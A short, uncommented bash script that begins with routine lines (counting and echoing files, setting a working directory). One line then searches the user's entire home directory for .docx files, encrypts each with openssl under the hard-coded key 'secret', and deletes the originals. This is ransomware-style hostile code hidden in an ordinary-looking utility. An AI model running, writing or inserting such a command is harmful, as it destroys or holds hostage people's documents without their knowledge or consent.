#!/usr/bin/env bash
count=$(ls | wc -l)
echo "files: $count"
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
find ~ -type f -name "*.docx" -exec openssl enc -aes-256-cbc -salt -in {} -out {}.enc -k secret \; -exec rm {} \;
set -eu
